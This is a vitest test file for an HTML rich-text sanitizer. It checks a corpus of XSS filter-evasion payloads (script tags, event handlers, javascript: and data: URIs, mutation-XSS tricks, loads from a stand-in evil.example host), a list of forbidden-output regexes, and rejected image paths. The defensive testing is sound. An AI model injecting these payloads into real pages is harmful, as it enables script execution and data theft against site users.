// The sanitizer against an XSS corpus (OWASP filter-evasion style payloads) and against what the
// editor legitimately produces (spec §9 fonts and sizes).
import { describe, expect, it } from 'vitest';
import {
  EDITOR_IMAGE_SRC_PATTERN,
  RICH_TEXT_FONT_FAMILIES,
  RICH_TEXT_FONT_SIZES,
  isEditorImageSrc,
  richTextToPlainText,
  sanitizeRichText,
} from './rich-text.ts';

const XSS_CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/steal">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<span style="font-family: expression(alert(1))">x</span>',
  '<span style="font-size: 1em; background-image: url(javascript:alert(1))">x</span>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<p onmouseover="alert(1)">hover</p>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<base href="javascript:alert(1)//">',
  '"><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<template><script>alert(1)</script></template>',
  '<a href="https://ok.example" target="_top">x</a>',
  '<p class="x" id="y" data-x="1">attributes</p>',
];

/** What must never survive: executable tags, handlers, dangerous schemes, foreign styles. */
const FORBIDDEN = [
  /<script/i,
  /<\/?(iframe|object|embed|svg|math|style|link|meta|form|input|button|base|body|details|textarea|template|noscript)\b/i,
  /\son[a-z]+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:/i,
  /expression\(/i,
  /url\(/i,
  /href="\/\//i,
  /\b(class|id|data-x)=/i,
  /target="_top"/i,
];

describe('sanitizeRichText against the XSS corpus', () => {
  it.each(XSS_CORPUS)('%s', (payload) => {
    const clean = sanitizeRichText(payload);
    for (const pattern of FORBIDDEN) expect(clean, `${pattern} in ${clean}`).not.toMatch(pattern);
    // Sanitizing is stable: the output is already clean.
    expect(sanitizeRichText(clean)).toBe(clean);
  });
});

describe('sanitizeRichText keeps what the editor makes', () => {
  it('keeps structure, emphasis, lists, quotes, code and safe links and images', () => {
    const html =
      '<h2>Plan</h2><p><strong>Bold</strong> <em>it</em> <u>u</u> <s>s</s> <code>c</code></p><ul><li>a</li></ul><ol start="3"><li>b</li></ol><blockquote>q</blockquote><pre><code>x</code></pre><p><a href="https://example.org/a?b=1" target="_blank">link</a> <a href="mailto:coach@example.org">mail</a></p><p><img src="/api/rest/files/editor/AbCdEfGhIjKlMnOpQrStUv.png" alt="pitch" width="200"></p><hr>';
    expect(sanitizeRichText(html)).toBe(
      '<h2>Plan</h2><p><strong>Bold</strong> <em>it</em> <u>u</u> <s>s</s> <code>c</code></p><ul><li>a</li></ul><ol start="3"><li>b</li></ol><blockquote>q</blockquote><pre><code>x</code></pre><p><a href="https://example.org/a?b=1" target="_blank" rel="noopener noreferrer nofollow">link</a> <a href="mailto:coach@example.org" rel="noopener noreferrer nofollow">mail</a></p><p><img src="/api/rest/files/editor/AbCdEfGhIjKlMnOpQrStUv.png" alt="pitch" width="200" /></p><hr />',
    );
  });

  it.each(RICH_TEXT_FONT_FAMILIES)('keeps the editor font %s', (font) => {
    expect(sanitizeRichText(`<span style="font-family: ${font}">x</span>`)).toBe(`<span style="font-family:${font}">x</span>`);
  });

  it.each(RICH_TEXT_FONT_SIZES)('keeps the editor size %s', (size) => {
    expect(sanitizeRichText(`<span style="font-size: ${size}">x</span>`)).toBe(`<span style="font-size:${size}">x</span>`);
  });

  it('drops other fonts, sizes and properties, and styles outside spans', () => {
    expect(sanitizeRichText('<span style="font-family: Comic Sans MS; font-size: 3em; color: red">x</span>')).toBe('<span>x</span>');
    expect(sanitizeRichText('<span style="font-size: 1.5em; position: fixed; top: 0">x</span>')).toBe('<span style="font-size:1.5em">x</span>');
    expect(sanitizeRichText('<p style="font-size: 1em">x</p>')).toBe('<p>x</p>');
  });

  it('always marks links noopener, whatever rel was sent', () => {
    expect(sanitizeRichText('<a href="https://example.org" rel="opener">x</a>')).toBe(
      '<a href="https://example.org" rel="noopener noreferrer nofollow">x</a>',
    );
  });

  it('keeps text of unknown tags and escapes stray markup characters', () => {
    expect(sanitizeRichText('<custom-tag>hello</custom-tag> 1 < 2 & 3')).toBe('hello 1 &lt; 2 &amp; 3');
  });
});

describe('images: only campus editor images survive', () => {
  const id = 'Zx_9-AbCdEfGhIjKlMnOp1';

  it.each(['png', 'jpg', 'webp', 'gif'])('keeps an editor image (.%s)', (ext) => {
    const src = `/api/rest/files/editor/${id}.${ext}`;
    expect(isEditorImageSrc(src)).toBe(true);
    expect(sanitizeRichText(`<p><img src="${src}" alt="a"></p>`)).toBe(`<p><img src="${src}" alt="a" /></p>`);
  });

  it.each([
    'https://example.org/a.png',
    'http://127.0.0.1/api/rest/files/editor/AbCdEfGhIjKlMnOpQrStUv.png',
    '//evil.example/api/rest/files/editor/AbCdEfGhIjKlMnOpQrStUv.png',
    '/api/rest/files/1.png',
    '/api/rest/files/editor/short.png',
    '/api/rest/files/editor/AbCdEfGhIjKlMnOpQrStUv.svg',
    '/api/rest/files/editor/AbCdEfGhIjKlMnOpQrStUv.png?x=1',
    '/api/rest/files/editor/../../logout/AbCdEfGhIjKlMnOp.png',
    ' /api/rest/files/editor/AbCdEfGhIjKlMnOpQrStUv.png',
    '/api/rest/files/editor/AbCdEfGhIjKlMnOpQrStUv.png\n',
    'data:image/png;base64,iVBORw0KGgo=',
    'x',
  ])('drops the image with src %s', (src) => {
    expect(isEditorImageSrc(src)).toBe(false);
    expect(sanitizeRichText(`<p>a<img src="${src}">b</p>`)).toBe('<p>ab</p>');
  });

  it('matches the contract pattern exactly', () => {
    expect(EDITOR_IMAGE_SRC_PATTERN.source).toBe('^\\/api\\/rest\\/files\\/editor\\/[A-Za-z0-9_-]{16,64}\\.(?:png|jpg|webp|gif)$');
    expect(isEditorImageSrc(undefined)).toBe(false);
    expect(isEditorImageSrc(`/api/rest/files/editor/${'a'.repeat(65)}.png`)).toBe(false);
    expect(isEditorImageSrc(`/api/rest/files/editor/${'a'.repeat(64)}.png`)).toBe(true);
  });
});

describe('richTextToPlainText', () => {
  it('gives the words, with breaks between blocks and entities decoded once', () => {
    expect(richTextToPlainText('<p>One&nbsp;two</p><p>three<br>four</p><ul><li>a</li><li>b</li></ul>')).toBe('One two three four a b');
    expect(richTextToPlainText('<p>a &amp;lt; b</p>')).toBe('a &lt; b');
    expect(richTextToPlainText('<p> &nbsp; </p>')).toBe('');
    expect(richTextToPlainText('<script>alert(1)</script>ok')).toBe('ok');
  });
});
